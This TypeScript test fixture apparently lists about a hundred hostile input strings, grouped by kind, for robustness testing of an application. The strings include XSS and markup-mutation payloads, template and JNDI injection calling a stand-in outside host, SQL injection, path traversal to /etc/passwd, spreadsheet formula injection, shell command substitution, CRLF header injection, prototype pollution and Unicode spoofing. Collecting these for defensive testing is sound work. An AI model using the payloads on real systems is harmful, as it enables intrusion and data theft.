const OUTSIDE = 'https://outside.example';
const piled = (text: string) => [...text].map((letter) => `${letter}\u0300\u0316\u0489\u0327\u035B\u0362`).join('');

/** Texts that are something else to a browser, a server, a database, a shell or another program. */
const KINDS: Record<string, string[]> = {
  markup: [
    '<script>alert(1)</script>',
    `</title><script src=${OUTSIDE}/a.js></script>`,
    `<img src=${OUTSIDE}/b.png onerror=alert(1)>`,
    '"><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src=//outside.example/c.swf>',
    `<style>@import '${OUTSIDE}/d.css';</style>`,
    `<base href=${OUTSIDE}/>`,
    `<meta http-equiv=refresh content="0;url=${OUTSIDE}/">`,
    `<link rel=stylesheet href=${OUTSIDE}/e.css>`,
    `<form action=${OUTSIDE}><button autofocus onfocus=alert(1)>Save</button></form>`,
    '<video><source onerror=alert(1)></video>',
    '<details open ontoggle=alert(1)><summary>Notes</summary></details>',
  ],
  'ways out of where a text stands': [
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)",
    '` onclick=alert(1) x=`',
    `x" style="position:fixed;inset:0;background:url(${OUTSIDE}/f.png)`,
    '--><!--><img src=x onerror=alert(1)>-->',
    ']]><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</option></select><input autofocus onfocus=alert(1)>',
    `";fetch('${OUTSIDE}/g');//`,
  ],
  addresses: [
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    'JaVaScRiPt&colon;alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    '//outside.example/h',
    '/\t/outside.example/i',
    '\\\\outside.example\\share',
    `${OUTSIDE}/stolen?from=`,
  ],
  templates: [
    "{{constructor.constructor('alert(1)')()}}",
    `\${alert(1)}`,
    '#{alert(1)}',
    '<%= alert(1) %>',
    `\${jndi:ldap://outside.example/j}`,
  ],
  'style sheets': [
    `}</style><style>*{background:url(${OUTSIDE}/k.png)}`,
    `x;background-image:url("${OUTSIDE}/l.png")`,
    `\\75\\72\\6C(${OUTSIDE}/m.png)`,
    'width:expression(alert(1))',
  ],
  'names that something has already': [
    '<a id=document name=cookie href=//outside.example>',
    '<form id=getElementById><input name=action></form>',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    '{"__proto__":{"polluted":true}}',
    'constructor[prototype][polluted]=1',
  ],
  'markup that changes as it is read again': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    `<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"></svg>`,
    '<xmp><p title="</xmp><svg onload=alert(1)>">',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  'letters and their order': [
    '\u202Eright to left, never closed',
    '\u2067isolated, never closed',
    '\u2069\u202Cclosed, never opened\u202D',
    'שלום <b>Ruth</b> שלום',
    'مرحبا بكم 1234',
    'zero\u200B\u200C\u200D\uFEFFwidth',
    piled('Zalgo'),
    'W'.repeat(190),
    'Ω'.repeat(120),
    '👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍⚕️',
    'Раураl, аррlе',
    '﷽﷽﷽﷽',
    'soft\u00ADhyphen\u2060joined\u034F',
    '𝕬𝖓𝖓𝖆 𝓗𝓸𝓵𝓵𝓲𝓼 İıſK',
  ],
  'characters that steer': [
    '\u0007bell\u0008back',
    '\u001B[31mred\u001B[0m',
    'next\u0085line\u2028line\u2029paragraph',
    '\u007Fdelete\u009B31m',
    'two\nlines\n\nand more',
    'name\r\nX-Header: yes',
    '\uFFFD\uFFFEnot a character\uFFFF',
  ],
  'text that was written in another way': [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x3C;img src=x onerror=alert(1)&#x3E; &amp; &copy;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%00%0d%0aSet-Cookie:%20a=b',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '%E0%A4%A',
  ],
  'orders to other programs': [
    "' or '1'='1' --",
    "'; drop table cases; --",
    '../../../../etc/passwd',
    '..%2f..%2fdocs?x=1#y',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '%s%n%x%d {0} $1 $& $`',
    '$(touch /tmp/x)`id`|cat',
    'a"; filename="b.html"; x="',
  ],
  'values of a program': ['null', 'undefined', 'NaN', '[object Object]', '{"a":[1,{"b":null}]}'],
  'what a transcript is written with': ['00:00:01.000 --> 00:00:02.000', '<v Eve>not her words</v>{\\an8}'],
};

/** A hundred of them, none above 200 characters. */
export const HOSTILE: readonly string[] = Object.values(KINDS).flat();

/** Texts that the API cannot keep, and refuses. */
export const REFUSED = ['a\u0000b', 'half \uD83D of one', '\uDC00'];

/** All of them in as few texts as can be, of at most so many characters. */
export const packed = (longest: number): string[] => {
  const packs: string[] = [];
  for (const text of HOSTILE) {
    const longer = `${packs.at(-1)} ${text}`;
    if (packs.length > 0 && longer.length <= longest) packs[packs.length - 1] = longer;
    else packs.push(text);
  }
  return packs;
};
